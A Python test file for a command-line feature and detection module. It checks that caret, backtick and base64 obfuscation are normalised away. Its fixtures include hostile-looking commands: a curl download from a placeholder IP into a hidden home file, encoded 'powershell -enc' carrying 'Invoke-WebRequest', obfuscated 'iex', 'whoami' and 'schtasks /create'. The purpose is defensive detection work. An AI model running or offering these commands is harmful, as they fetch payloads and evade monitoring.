"""Command lines: every form, columns by hand, and what hides in them."""

import base64
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from inoculate.domain import Batch
from inoculate.domains.text.commands import Commands
from inoculate.reading.sources import open_source

SAMPLES = Path(__file__).parents[2] / "data" / "commands"


def read(path, content=None):
    if content is not None:
        path.write_text(content)
    bad = []
    with open_source(path) as source:
        sure = Commands().sniff(source)
        batches = list(Commands().read(source, on_bad=bad.append))
    frame = pl.concat([b.frame for b in batches]) if batches else pl.DataFrame()
    return sure, frame, [str(e) for e in bad]


def encode(*texts):
    frame = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    return Commands().encode(Batch(frame), Commands().views(Batch(frame)))


def shape(text):
    row = encode(text)["shape"][0].tolist()
    return dict(zip([c.name for c in Commands.shape_view.columns], row, strict=True))


@pytest.mark.parametrize(
    "name, sure, n", [("history.txt", 0.5, 11), ("events.csv", 0.6, 4), ("events.jsonl", 0.6, 3)]
)
def test_every_form_gives_commands(name, sure, n):
    found, frame, bad = read(SAMPLES / name)
    assert (found, frame.height, bad) == (sure, n, [])
    assert frame["origin"].str.starts_with(f"{SAMPLES / name}:").all()
    assert name == "history.txt" or frame["label"].null_count() == 0


@pytest.mark.parametrize(
    "content",
    [
        "The quick brown fox\njumps over it\nand runs\n",
        "a.example\nb.example\n",
        '{"EventID": 1, "Channel": "Sysmon", "CommandLine": "whoami"}\n',
        "command,x\nhello there,1\ngood day,2\n",
        "Jan  2 03:04:05 host sshd[1]: session opened\n" * 3,
    ],
)
def test_other_texts_are_left_to_others(tmp_path, content):
    assert read(tmp_path / "a", content)[0] == 0


def test_columns_by_hand():
    text = "cmd /c \"type C:\\a.txt | find 'x' > \\\\srv\\s\\b\" && curl --silent -o $HOME/.x http://1.2.3.4/y"
    x = shape(text)
    expected = {
        "lines": 0, "pipes": 1, "redirections": 1, "separators": 1, "quotes": 2,
        "double_quotes": 2, "backslashes": 5, "dollars": 1, "flags": 1, "long_flags": 1,
        "switches": 1, "variables": 1, "urls": 1, "addresses": 1, "shares": 1, "hidden": 1,
        "registry": 0, "carets": 0, "joints": 0, "layers": 0, "base64_share": 0,
        "length": len(text),
    }  # fmt: skip
    assert {k: x[k] for k in expected} == expected
    x = shape("I`EX ('a'+'b'); p^ower reg query HKLM\\x; [Net.Web]::New(); Get-Item")
    expected = {"backticks": 1, "joints": 1, "carets": 1, "registry": 1, "members": 1, "cmdlets": 1}
    assert {k: x[k] for k in expected} == expected


def test_what_hides_in_base64_is_counted_as_if_it_stood_there():
    inner = "Invoke-WebRequest evil"
    hidden = base64.b64encode(inner.encode("utf-16-le")).decode()
    x = encode(f"powershell -enc {hidden}", f"powershell -enc {inner}")
    for view in ("gram", "token"):
        np.testing.assert_array_equal(x[view][0], x[view][1])
    found = shape(f"powershell -enc {hidden}")
    assert found["base64_runs"] == 1 and found["base64_share"] > 0.7


@pytest.mark.parametrize(
    "one, other",
    [
        ("p^o^w^ershell", "powershell"),
        ("i`e`x 'a'", "iex 'a'"),
        ("& ('who'+'ami')", "& ('whoami')"),
        ("ping 10.0.0.1", "ping 192.0.2.77"),
        ("x {12345678-1234-1234-1234-123456789abc}", "x {00000000-AAAA-bbbb-cccc-0123456789ab}"),
        ("cat /home/ann/a", "cat /home/bob/a"),
        (r"type C:\Users\ann\a", r"TYPE c:\users\Bob\a"),
        ("x " + "0a" * 16, "x " + "ff" * 32),
    ],
)
def test_disguise_and_names_make_no_difference_to_letters_and_words(one, other):
    x = encode(one, other)
    for view in ("gram", "token"):
        np.testing.assert_array_equal(x[view][0], x[view][1])


def test_unknown_and_empty_commands():
    x = encode(None, "")
    assert all(np.isnan(view[0]).all() for view in x.values())
    assert np.isnan(shape("")["base64_share"]) and x["gram"][1].any()


def test_words_are_quoted():
    text = "schtasks /create /tn x"
    row = encode(text)["token"][0]
    names = [Commands.hashed[1].view.columns[i].name for i in np.flatnonzero(row)]
    quoted = " ".join(Commands().quote({"text": text}, name) for name in names)
    assert "'schtasks'" in quoted and "'schtasks c'" not in quoted
    assert "'/tn x'" in quoted


def test_real_attack_commands_are_told(data_dir, tmp_path):
    commands = pl.read_parquet(data_dir / "net" / "atomic_commands.parquet")["command"]
    lines = commands.str.replace_all("\n", " ")
    sure, frame, bad = read(tmp_path / "a", "\n".join(lines) + "\n")
    assert sure == 0.5 and frame.height > 1_700 and not bad
